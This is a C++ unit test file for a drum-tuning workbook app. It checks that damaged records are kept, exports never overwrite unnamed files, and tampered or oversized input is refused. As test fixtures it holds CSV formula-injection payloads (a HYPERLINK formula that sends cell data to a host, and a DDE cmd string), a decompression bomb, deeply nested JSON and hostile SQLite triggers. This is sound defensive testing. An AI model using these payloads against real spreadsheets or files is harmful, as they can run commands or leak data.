/// What is kept can be read again, nothing damaged is thrown away, and no file is replaced that nobody named.
#include "core/record/commands/command.h"
#include "core/record/entry_figures.h"
#include "core/record/json_values.h"
#include "store/backups.h"
#include "store/demo.h"
#include "store/exchange/csv_cell.h"
#include "store/exchange/entries_csv.h"
#include "store/exchange/exchange.h"
#include "store/exchange/parcel_json.h"
#include "store/packed_text.h"
#include "store/rescue.h"
#include "support/raw_sql.h"
#include "support/sessions.h"
#include "support/words_of.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <gtest/gtest.h>
#include <sys/stat.h>

namespace bombo {
namespace {

using testing::runSql;
const QString kThen = QStringLiteral("2026-11-29T20:00:00+01:00");

class Kept : public ::testing::Test {
protected:
    QString path(const QString& name = QStringLiteral("a.bombo")) const { return m_folder.filePath(name); }
    std::unique_ptr<Workbook> demo() const { return createDemoWorkbook(path()).value(); }
    /// The demo with a session on Plover, of so many steps.
    StoredSession begun(Workbook& book, int steps) const {
        auto stored = book.startSession(testing::fresh(), {}, kThen).value();
        for (int i = 0; i < steps; ++i) {
            Work work = stored.work;
            ++work.clock;
            work.stars = i % 5 + 1;
            EXPECT_TRUE(book.appendStep(stored, QStringLiteral("set_stars"), work, {}, {}, kThen));
        }
        return stored;
    }
    static QByteArray bytesOf(const QString& file) {
        QFile in(file);
        return in.open(QIODevice::ReadOnly) ? in.readAll() : QByteArray();
    }
    void write(const QString& file, const QByteArray& bytes) const {
        QFile out(file);
        ASSERT_TRUE(out.open(QIODevice::WriteOnly));
        out.write(bytes);
    }
    QTemporaryDir m_folder;
};

TEST_F(Kept, AStateThatCouldNotBeReadIsNotWritten) {
    auto book = demo();
    StoredSession stored = begun(*book, 2);
    Work bad = stored.work;
    bad.goingBack = GoingBack{"then", Turns{7.5}, std::nullopt};
    const auto done = book->appendStep(stored, QStringLiteral("go_back"), bad, {}, {}, kThen);
    ASSERT_FALSE(done);
    EXPECT_EQ(done.fault().fault, WorkbookFault::Unreadable);
    EXPECT_EQ(stored.position, 2);
    bad = stored.work;
    bad.wires.strainer = Turns{std::nan("")}; // written as null
    EXPECT_FALSE(book->amendStep(stored, bad));
    Context long_;
    long_.note = std::string(200000, 'x');
    EXPECT_FALSE(book->keepContext(stored, long_));
    EXPECT_FALSE(book->startSession(bad, {}, kThen));
    book.reset();
    const auto again = Workbook::open(path()).value()->loadSession(stored.id);
    ASSERT_TRUE(again);
    EXPECT_EQ(again->work, stored.work);
}

TEST_F(Kept, DamagedStepsStayInTheFileWhenOneGoesOn) {
    auto book = demo();
    const qint64 id = begun(*book, 12).id;
    runSql(path(),
           QStringLiteral("UPDATE steps SET state = x'427a01ff' WHERE session_id = %1 AND position >= 9")
               .arg(id));
    auto stored = book->loadSession(id).value();
    ASSERT_EQ(stored.position, 8);
    ASSERT_TRUE(book->appendStep(stored, QStringLiteral("set_stars"), stored.work, {}, {}, kThen));
    EXPECT_EQ(runSql(path(), QStringLiteral("SELECT COUNT(*) FROM damaged WHERE part = 'step'")).toInt(), 4);
    EXPECT_EQ(
        runSql(path(), QStringLiteral("SELECT COUNT(*) FROM damaged WHERE value = x'427a01ff'")).toInt(), 4);
    // What the user undid is dropped as ever.
    ASSERT_TRUE(book->moveTo(stored, 3));
    ASSERT_TRUE(book->appendStep(stored, QStringLiteral("set_stars"), stored.work, {}, {}, kThen));
    EXPECT_EQ(runSql(path(), QStringLiteral("SELECT COUNT(*) FROM damaged")).toInt(), 4);
    book.reset();
    ASSERT_TRUE(rescueWorkbook(path(), path(QStringLiteral("r.bombo"))));
    EXPECT_EQ(runSql(path(QStringLiteral("r.bombo")), QStringLiteral("SELECT COUNT(*) FROM damaged")).toInt(),
              4);
}

TEST_F(Kept, OneBadValueOfTheRigCostsOnlyItself) {
    auto book = demo();
    auto rig = book->rig("plover", 0).value();
    Rig full = rig.rig;
    for (int i = 0; i < 3; ++i)
        full.earResults.push_back({1000 + i, "Ada", "beats", 3.0, 0.1, 20});
    full.leftHanded = true;
    ASSERT_TRUE(book->keepRig(rig, "plover", full));
    runSql(path(),
           QStringLiteral("UPDATE rig SET value = json_set(value, '$.earResults[1].threshold', NULL) WHERE "
                          "drum_id = ''"));
    auto read = book->rig("plover", 0).value();
    EXPECT_EQ(read.rig.earResults.size(), 2U);
    EXPECT_TRUE(read.rig.leftHanded);
    EXPECT_EQ(book->takeSetAside().size(), 1U);
    Rig next = read.rig;
    next.leftHanded = false;
    ASSERT_TRUE(book->keepRig(read, "plover", next));
    EXPECT_EQ(book->rig("plover", 0)->rig.earResults.size(), 2U);
    EXPECT_EQ(runSql(path(), QStringLiteral("SELECT COUNT(*) FROM damaged WHERE part = 'rig'")).toInt(), 1);
}

TEST_F(Kept, ADamagedContextIsKeptBesideTheNewOne) {
    auto book = demo();
    const qint64 id = begun(*book, 1).id;
    runSql(path(), QStringLiteral("UPDATE sessions SET context = '{\"station\": 7}'"));
    auto stored = book->loadSession(id).value();
    Context next;
    next.note = "on";
    ASSERT_TRUE(book->keepContext(stored, next));
    EXPECT_EQ(runSql(path(), QStringLiteral("SELECT value FROM damaged WHERE part = 'context'")).toString(),
              QStringLiteral("{\"station\": 7}"));
}

TEST_F(Kept, ADamagedSetupCostsOnlyItselfInExportAndImport) {
    auto book = demo();
    auto stored = book->startSession(testing::fresh(), {}, kThen).value();
    const Session done = testing::fullSession();
    const QString summary = QString::fromStdString(setupSummary(done).dump());
    for (const char* at : {"2026-11-20T19:00:00+01:00", "2026-11-21T19:00:00+01:00"})
        ASSERT_TRUE(book->saveSetup(stored, QStringLiteral("mark_saved"), done,
                                    {0, QLatin1String(at), "plover", "chase", summary, true}));
    const std::size_t all = book->entries({})->size();
    for (const char* damage : {"x'427a01ff'", "'{\"plain'"}) { // packed, and as it was kept before version 5
        runSql(path(), QStringLiteral(
                           "UPDATE log_entries SET session_state = %1 WHERE saved_at LIKE '2026-11-20T19%'")
                           .arg(QLatin1String(damage)));
        const QString file = path(QStringLiteral("out.json"));
        const auto out = exportTo(file, *book, std::nullopt, Exported::ByEnding, Overwrite::IfAsked);
        ASSERT_TRUE(out) << out.fault().text.toStdString();
        ASSERT_EQ(out->leftOut.size(), 1) << damage;
        EXPECT_FALSE(Json::parse(bytesOf(file).toStdString()).is_discarded());
        const auto readings = exportTo(path(QStringLiteral("r.csv")), *book, std::nullopt, Exported::Readings,
                                       Overwrite::IfAsked);
        ASSERT_TRUE(readings);
        EXPECT_EQ(readings->leftOut.size(), 1);
        auto other = Workbook::create(path(QStringLiteral("%1.bombo").arg(qstrlen(damage)))).value();
        const auto plan = importPlanOf(file, *other);
        ASSERT_TRUE(plan);
        ASSERT_TRUE(other->takeIn(plan->adds));
        EXPECT_EQ(other->entries({})->size(), all);
        EXPECT_TRUE(importPlanOf(file, *book)); // and the damaged one still takes in
    }
}

TEST_F(Kept, ADrumWhoseRowIsDamagedComesBackFromItsWork) {
    auto book = demo();
    begun(*book, 1);
    ASSERT_TRUE(exportTo(path(QStringLiteral("good.json")), *book, std::nullopt));
    runSql(path(), QStringLiteral("UPDATE drums SET description = '{' WHERE id = 'plover'"));
    ASSERT_EQ(book->drums()->size(), 2U);
    // Its export brings the drum along, and so can be taken in.
    ASSERT_TRUE(exportTo(path(QStringLiteral("hurt.json")), *book, std::nullopt));
    auto other = Workbook::create(path(QStringLiteral("other.bombo"))).value();
    const auto plan = importPlanOf(path(QStringLiteral("hurt.json")), *other);
    ASSERT_TRUE(plan);
    EXPECT_TRUE(plan->refused.isEmpty()) << plan->refused.join(QLatin1Char('\n')).toStdString();
    ASSERT_TRUE(other->takeIn(plan->adds));
    EXPECT_EQ(other->drums()->size(), 3U);
    // And a good export mends the damaged workbook; the damaged row is kept.
    const auto mend = importPlanOf(path(QStringLiteral("good.json")), *book);
    ASSERT_TRUE(mend);
    const auto taken = book->takeIn(mend->adds);
    ASSERT_TRUE(taken) << problemText(taken.fault()).toStdString();
    EXPECT_EQ(book->drums()->size(), 3U);
    EXPECT_EQ(runSql(path(), QStringLiteral("SELECT value FROM damaged WHERE part = 'drums'")).toString(),
              QStringLiteral("{"));
}

TEST_F(Kept, AnExportNeverWritesOverAWorkbookOrWhatNobodyNamed) {
    auto book = demo();
    const QByteArray before = bytesOf(path());
    const QString link = path(QStringLiteral("link.json"));
    ASSERT_TRUE(QFile::link(path(), link));
    const QString copy = path(QStringLiteral("copy.csv"));
    ASSERT_TRUE(QFile::copy(path(), copy));
    write(path(QStringLiteral("note.json")), "mine");
    for (const QString& file : {path(), link, copy, path() + QStringLiteral("-wal")})
        EXPECT_FALSE(exportTo(file, *book, std::nullopt, Exported::ByEnding, Overwrite::IfAsked))
            << file.toStdString();
    EXPECT_FALSE(
        exportTo(path(QStringLiteral("other.bombo")), *book, std::nullopt)); // no ending of an export
    EXPECT_FALSE(exportTo(path(QStringLiteral("note.json")), *book, std::nullopt));
    EXPECT_EQ(bytesOf(path(QStringLiteral("note.json"))), "mine");
    EXPECT_EQ(bytesOf(path()), before);
    EXPECT_TRUE(exportTo(path(QStringLiteral("note.json")), *book, std::nullopt, Exported::ByEnding,
                         Overwrite::IfAsked));
}

TEST_F(Kept, AWorkbookThatWasTakenAwayIsNoticedBeforeAnythingIsSaid) {
    auto book = demo();
    StoredSession stored = begun(*book, 2);
    for (const char* part : {"", "-wal", "-shm"})
        QFile::remove(path() + QLatin1String(part));
    const auto lost = book->appendStep(stored, QStringLiteral("set_stars"), stored.work, {}, {}, kThen);
    ASSERT_FALSE(lost);
    EXPECT_EQ(lost.fault().fault, WorkbookFault::Moved);
    EXPECT_FALSE(book->setValue(QStringLiteral("a"), QStringLiteral("b")));
    ASSERT_TRUE(book->writeAgain()); // the connection still has everything
    ASSERT_TRUE(book->appendStep(stored, QStringLiteral("set_stars"), stored.work, {}, {}, kThen));
    EXPECT_EQ(Workbook::open(path()).value()->loadSession(stored.id)->steps.size(), 4);
    // Another file in its place is left alone.
    QFile::rename(path(), path(QStringLiteral("b.bombo")));
    write(path(), "somebody's");
    EXPECT_EQ(book->keepContext(stored, {}).fault().fault, WorkbookFault::Moved);
    EXPECT_EQ(book->writeAgain().fault().fault, WorkbookFault::Exists);
    EXPECT_EQ(bytesOf(path()), "somebody's");
}

TEST_F(Kept, EarlierSessionsComeInFrontAgain) {
    auto book = demo();
    const qint64 first = begun(*book, 3).id;
    const qint64 second = begun(*book, 1).id;
    EXPECT_EQ(*book->latestSession("plover").value(), second);
    const auto lines = book->sessionsOf("plover").value();
    ASSERT_EQ(lines.size(), 2U);
    EXPECT_EQ(lines[1].id, first);
    EXPECT_EQ(lines[1].steps, 3);
    EXPECT_TRUE(lines[0].isInFront);
    // In a workbook of an older version none was ever opened.
    runSql(path(), QStringLiteral("UPDATE sessions SET opened = 0"));
    EXPECT_EQ(*book->latestSession("plover").value(), second);
    ASSERT_TRUE(book->bringForward(first));
    book.reset();
    const auto again = Workbook::open(path()).value();
    EXPECT_EQ(*again->latestSession("plover").value(), first);
    EXPECT_EQ(again->sessionsOf("plover")->front().id, first);
}

TEST_F(Kept, TheBinKeepsWhatWasDeletedUntilItIsEmptied) {
    auto book = demo();
    ASSERT_TRUE(exportTo(path(QStringLiteral("all.json")), *book, std::nullopt));
    const auto entries = book->entries({}).value();
    ASSERT_TRUE(book->deleteEntries({entries[0].id}, true));
    ASSERT_TRUE(book->deleteEntries({entries[1].id, entries[2].id}, true));
    book.reset();
    book = Workbook::open(path()).value();
    ASSERT_EQ(book->bin()->size(), 3U);
    // What is in the bin is taken out of it and not added beside it.
    const auto plan = importPlanOf(path(QStringLiteral("all.json")), *book).value();
    EXPECT_EQ(plan.restored, 3);
    ASSERT_TRUE(book->takeIn(plan.adds));
    EXPECT_EQ(book->entries({}).value(), entries);
    EXPECT_TRUE(book->bin()->empty());
    ASSERT_TRUE(book->deleteEntries({entries[0].id}, true));
    ASSERT_TRUE(book->emptyBin());
    EXPECT_TRUE(book->bin()->empty());
    EXPECT_FALSE(book->deleteEntries({entries[0].id}, false) && book->entries({})->size() == entries.size());
}

TEST_F(Kept, WordsAndValuesOfAnotherProgramAreNotWrittenOver) {
    auto one = demo();
    auto other = Workbook::open(path()).value();
    const qint64 id = one->entries({})->front().id;
    const EntryWords shown = testing::wordsOf(*one, id);
    EntryWords stars = shown;
    stars.stars = 5;
    EntryWords note = shown;
    note.note = "typed here";
    ASSERT_TRUE(other->keepWords(id, shown, stars));
    EXPECT_EQ(one->keepWords(id, shown, note).fault().fault, WorkbookFault::ChangedElsewhere);
    EXPECT_EQ(testing::wordsOf(*one, id), stars);
    ASSERT_TRUE(one->changeValue(QStringLiteral("set_list"), {}, QStringLiteral("[1]")));
    EXPECT_EQ(other->changeValue(QStringLiteral("set_list"), {}, QStringLiteral("[2]")).fault().fault,
              WorkbookFault::ChangedElsewhere);
    EXPECT_EQ(one->value(QStringLiteral("set_list")), QStringLiteral("[1]"));
}

TEST_F(Kept, ANewHeadOfAnotherProgramIsNotWrittenOver) {
    auto one = demo();
    StoredSession mine = begun(*one, 1);
    auto other = Workbook::open(path()).value();
    StoredSession theirs = other->startSession(mine.work, {}, kThen).value();
    Work fitted = theirs.work;
    fitted.drum.fittedAt.batter = 1'790'000'000;
    ASSERT_TRUE(other->appendStep(theirs, QStringLiteral("fit_head"), fitted, {}, {}, kThen));
    Work renamed = mine.work;
    renamed.drum.name = "Plover II";
    EXPECT_EQ(one->appendStep(mine, QStringLiteral("describe_drum"), renamed, {}, {}, kThen).fault().fault,
              WorkbookFault::ChangedElsewhere);
    for (const DrumRow& row : one->drums().value())
        if (row.drum.id == "plover") {
            EXPECT_EQ(row.drum.fittedAt.batter, 1'790'000'000);
        }
}

TEST_F(Kept, DeepJsonIsRefusedEverywhereAndCostsNothing) {
    const std::string deep = std::string(100000, '[') + std::string(100000, ']');
    EXPECT_TRUE(nestsTooDeeply(deep));
    EXPECT_FALSE(
        nestsTooDeeply("{\"a\":\"" + std::string(1000, '[') + "\\\"" + std::string(1000, '{') + "\"}"));
    EXPECT_FALSE(
        parcelFromText("{\"format\":\"bombo-parcel\",\"version\":1,\"entries\":[{\"setup\":" + deep + "}]}"));
    EXPECT_FALSE(workFromText(deep));
    EXPECT_FALSE(setupFromText("{\"x\":" + deep + "}"));
    EXPECT_FALSE(contextFromText(deep));
    EXPECT_FALSE(entryFiguresFrom("{\"x\":" + deep + "}"));
    EXPECT_FALSE(entryWordsFrom("{\"note\":" + deep + "}"));
    EXPECT_FALSE(placeRigFromText("{\"layout\":" + deep + "}"));
    auto book = demo();
    for (const char* sql : {"UPDATE log_entries SET summary = ?", "UPDATE rig SET value = ?",
                            "UPDATE drums SET description = ? WHERE id = 'wren'"})
        runSql(path(),
               QString::fromLatin1(sql).replace(
                   QLatin1Char('?'), QLatin1Char('\'') + QString::fromStdString(deep) + QLatin1Char('\'')));
    EXPECT_EQ(book->drums()->size(), 2U);
    EXPECT_TRUE(book->entries({}));
    EXPECT_TRUE(book->parcel({}));
    EXPECT_TRUE(book->rig("plover", 0));
}

TEST_F(Kept, WhatNoBomboMakesIsNotOpened) {
    for (const char* sql :
         {"CREATE TRIGGER t AFTER INSERT ON log_entries BEGIN DELETE FROM log_entries; END",
          "CREATE VIEW v AS SELECT 1",
          "ALTER TABLE drums RENAME TO d0; CREATE VIEW drums AS WITH RECURSIVE c(x) AS (SELECT 1 "
          "UNION ALL SELECT x + 1 FROM c) SELECT x AS id FROM c",
          "CREATE TABLE extra(a, b AS (a * 2))", "CREATE INDEX i ON drums(length(description))",
          "CREATE VIRTUAL TABLE w USING fts5(a)", "DROP TABLE recordings"}) {
        const QString file = path(QStringLiteral("x.bombo"));
        QFile::remove(file);
        ASSERT_TRUE(createDemoWorkbook(file));
        for (const QString& one : QString::fromLatin1(sql).split(QStringLiteral("; C")))
            runSql(file, one.startsWith(QStringLiteral("REATE")) ? QLatin1Char('C') + one : one);
        const auto book = Workbook::open(file);
        ASSERT_FALSE(book) << sql;
        EXPECT_TRUE(book.fault().fault == WorkbookFault::Foreign ||
                    book.fault().fault == WorkbookFault::Damaged)
            << sql;
        const QString out = path(QStringLiteral("out-of-x.bombo"));
        QFile::remove(out);
        const auto rescued = rescueWorkbook(file, out);
        ASSERT_TRUE(rescued) << sql;
        EXPECT_TRUE(Workbook::open(out)) << sql;
    }
}

TEST_F(Kept, PackedBombsAreDamageAndAreNotLookedAtForLong) {
    auto book = demo();
    const qint64 id = begun(*book, 30).id;
    const QByteArray bomb = packedText(std::string(3U << 20U, ' '));
    runSql(path(), QStringLiteral("UPDATE steps SET state = x'%1' WHERE position > 0")
                       .arg(QString::fromLatin1(bomb.toHex())));
    const auto stored = book->loadSession(id);
    ASSERT_TRUE(stored); // the start is whole
    EXPECT_EQ(stored->position, 0);
    EXPECT_LE(book->takeSetAside().size(), 12U);
    EXPECT_FALSE(unpackedText(packedText(std::string(kLongestState + 1, ' '))));
}

TEST_F(Kept, FormulasAreWordsInASpreadsheetAndComeBackUnchanged) {
    auto book = demo();
    Entry entry = book->entries({})->front();
    for (const char* text :
         {"=HYPERLINK(\"http://x/?\"&A1,\"y\")", "@SUM(1,1)", "+cmd|'/C calc'!A0", "-1+1", "=1+1", "\t=1",
          "'=quoted by hand", "'tis", "plain, with comma", " leading blank"}) {
        entry.figures.words.note = text;
        entry.figures.words.tags = {text[0] == '\t' || text[0] == ' ' ? "=t" : text, "b"};
        const QString csv = entriesCsv({entry});
        const QString cell = quoted(QString::fromLatin1(text));
        const QChar first = cell.startsWith(QLatin1Char('"')) ? cell[1] : cell[0];
        EXPECT_FALSE(QStringLiteral("=+-@\t\r").contains(first)) << text;
        ASSERT_TRUE(csv.contains(cell)) << text;
        const auto back = entriesFromCsv(csv.toUtf8());
        ASSERT_TRUE(back && back->entries.size() == 1) << text;
        const EntryFigures figures = *entryFiguresFrom(back->entries[0].entry.summary.toStdString());
        EXPECT_EQ(figures.words.note, text);
        EXPECT_EQ(figures.words.tags, entry.figures.words.tags);
    }
}

TEST_F(Kept, AClockThatWasAheadDoesNotCrowdOutToday) {
    auto book = demo();
    for (int day = 1; day <= 7; ++day)
        write(QStringLiteral("%1.2037-01-0%2.bak").arg(path()).arg(day), "ahead");
    book.reset();
    book = Workbook::open(path()).value();
    ASSERT_TRUE(book->setValue(QStringLiteral("a"), QStringLiteral("b")));
    EXPECT_TRUE(QFile::exists(dailyBackup(path(), QDate::currentDate())));
    EXPECT_EQ(QDir(m_folder.path()).entryList({QStringLiteral("*.bak")}).size(), 7);
}

TEST_F(Kept, ThroughALinkNothingIsMissing) {
    auto book = demo();
    begun(*book, 1);
    ASSERT_TRUE(book->addLogEntry({0, kThen, "plover", "chase", QStringLiteral("{}"), false}));
    const std::size_t entries = book->entries({})->size();
    QDir(m_folder.path()).mkdir(QStringLiteral("elsewhere"));
    const QString link = path(QStringLiteral("elsewhere/link.bombo"));
    ASSERT_TRUE(QFile::link(path(), link));
    auto seen = Workbook::open(link);
    ASSERT_TRUE(seen);
    EXPECT_EQ((*seen)->entries({})->size(), entries);
    EXPECT_EQ((*seen)->path(), QFileInfo(path()).canonicalFilePath());
    ASSERT_TRUE((*seen)->setValue(QStringLiteral("a"), QStringLiteral("b")));
    EXPECT_TRUE(QDir(path(QStringLiteral("elsewhere"))).entryList({QStringLiteral("*.bak")}).isEmpty());
}

TEST_F(Kept, CutFilesAreRescued) {
    auto book = demo();
    begun(*book, 10);
    book.reset();
    const QByteArray whole = bytesOf(path());
    const std::size_t all = Workbook::open(path()).value()->entries({})->size();
    int tried = 0;
    int rescued = 0;
    for (int percent = 30; percent <= 95; percent += 5, ++tried) {
        const QString cut = path(QStringLiteral("cut%1.bombo").arg(percent));
        write(cut, whole.left(whole.size() * percent / 100));
        const QString out = path(QStringLiteral("saved%1.bombo").arg(percent));
        if (const auto done = rescueWorkbook(cut, out)) {
            const auto made = Workbook::open(out);
            ASSERT_TRUE(made);
            ++rescued;
            if (percent >= 90) {
                EXPECT_GE((*made)->entries({})->size(), all / 2);
            }
        }
        EXPECT_EQ(bytesOf(cut).size(), whole.size() * percent / 100); // only read
    }
    EXPECT_EQ(rescued, tried);
    EXPECT_FALSE(rescueWorkbook(QStringLiteral("/dev/zero"), path(QStringLiteral("z.bombo"))));
    EXPECT_FALSE(QFile::exists(path(QStringLiteral("z.bombo"))));
}

TEST_F(Kept, ADrumThatStandsInEntriesAloneIsRescued) {
    {
        auto book = demo();
        auto stored = book->startSession(testing::fresh(), {}, kThen).value();
        const Session done = testing::fullSession();
        ASSERT_TRUE(book->saveSetup(
            stored, QStringLiteral("mark_saved"), done,
            {0, kThen, "plover", "chase", QString::fromStdString(setupSummary(done).dump()), true}));
    }
    runSql(path(), QStringLiteral("DELETE FROM sessions"));
    runSql(path(), QStringLiteral("UPDATE drums SET description = 'no drum' WHERE id = 'plover'"));
    const QString out = path(QStringLiteral("out.bombo"));
    ASSERT_TRUE(rescueWorkbook(path(), out));
    const auto made = Workbook::open(out).value();
    EXPECT_EQ(made->drums()->size(), 3U);
    EXPECT_FALSE(made->entries("plover")->empty());
}

TEST_F(Kept, NamesThatAreNoFilesAndPipesAreRefused) {
    EXPECT_FALSE(Workbook::create(QStringLiteral(":memory:")));
    EXPECT_FALSE(Workbook::create(QStringLiteral("file:x?mode=memory")));
    const QString pipe = path(QStringLiteral("pipe.json"));
    ASSERT_EQ(mkfifo(QFile::encodeName(pipe).constData(), 0600), 0);
    EXPECT_FALSE(Workbook::open(pipe));
    auto book = demo();
    EXPECT_FALSE(importPlanOf(pipe, *book)); // and does not wait for it
    EXPECT_FALSE(exportTo(pipe, *book, std::nullopt, Exported::ByEnding, Overwrite::IfAsked));
}

TEST_F(Kept, ATableOfAHundredThousandRowsCanBeGivenUp) {
    auto book = demo();
    QByteArray csv = "saved_at,drum,tone,batter_hz,note\n";
    for (int i = 0; i < 100000; ++i)
        csv += "2020-01-01T00:00:" + QByteArray::number(i % 60).rightJustified(2, '0') +
               "Z,Plover,Chase,300," + QByteArray::number(i) + '\n';
    write(path(QStringLiteral("big.csv")), csv);
    const Parcel here = book->parcel(std::nullopt, Setups::LeftOut).value();
    int asked = 0;
    const auto given =
        importPlanOf(path(QStringLiteral("big.csv")), here, [&](double) { return ++asked < 5; });
    ASSERT_FALSE(given);
    EXPECT_TRUE(given.fault().isGivenUp);
    EXPECT_EQ(asked, 5);
    double last = 0.0;
    const auto plan = importPlanOf(path(QStringLiteral("big.csv")), here, [&](double share) {
        EXPECT_GE(share, last);
        last = share;
        return true;
    });
    ASSERT_TRUE(plan);
    EXPECT_EQ(plan->adds.entries.size(), 100000U);
    const std::size_t before = book->entries({})->size();
    EXPECT_EQ(book->takeIn(plan->adds, [](double share) { return share < 0.5; }).fault().fault,
              WorkbookFault::GivenUp);
    EXPECT_EQ(book->entries({})->size(), before); // all or nothing
}

TEST_F(Kept, NamesOfATableAreNeverGuessed) {
    auto book = demo();
    Drum spare = testing::plover();
    spare.name = "Spare";
    for (const char* id : {"aaaa", "bbbb"}) {
        spare.id = id;
        ASSERT_TRUE(book->addDrum({spare, 1, "chase"}));
    }
    Tone own = testing::chase();
    own.id = "own-crack";
    own.name = "Crack";
    ASSERT_TRUE(book->addTone(own));
    write(path(QStringLiteral("t.csv")), "saved_at,drum,tone\n2026-10-11T18:00:00Z,Spare,chase\n"
                                         "2026-10-12T18:00:00Z,bbbb,own-crack\n");
    const auto plan = importPlanOf(path(QStringLiteral("t.csv")), *book).value();
    ASSERT_EQ(plan.refused.size(), 1);
    EXPECT_TRUE(plan.refused.front().contains(QStringLiteral("aaaa, bbbb")))
        << plan.refused.front().toStdString();
    ASSERT_EQ(plan.adds.entries.size(), 1U);
    EXPECT_EQ(plan.adds.entries[0].entry.drumId, "bbbb");
    EXPECT_EQ(plan.adds.entries[0].entry.toneId, "own-crack");
}

TEST_F(Kept, ATableIsTheSameInAnotherTimeZone) {
    auto book = demo(); // entries without an offset, as older versions wrote them
    ASSERT_TRUE(exportTo(path(QStringLiteral("one.csv")), *book, std::nullopt));
    ASSERT_TRUE(exportTo(path(QStringLiteral("one.json")), *book, std::nullopt));
    const QByteArray zone = qgetenv("TZ");
    for (const char* other : {"America/New_York", "Asia/Tokyo"}) {
        qputenv("TZ", other);
        tzset();
        EXPECT_TRUE(importPlanOf(path(QStringLiteral("one.csv")), *book)->addsNothing()) << other;
        EXPECT_TRUE(importPlanOf(path(QStringLiteral("one.json")), *book)->addsNothing()) << other;
    }
    zone.isNull() ? qunsetenv("TZ") : static_cast<bool>(qputenv("TZ", zone));
    tzset();
}

} // namespace
} // namespace bombo
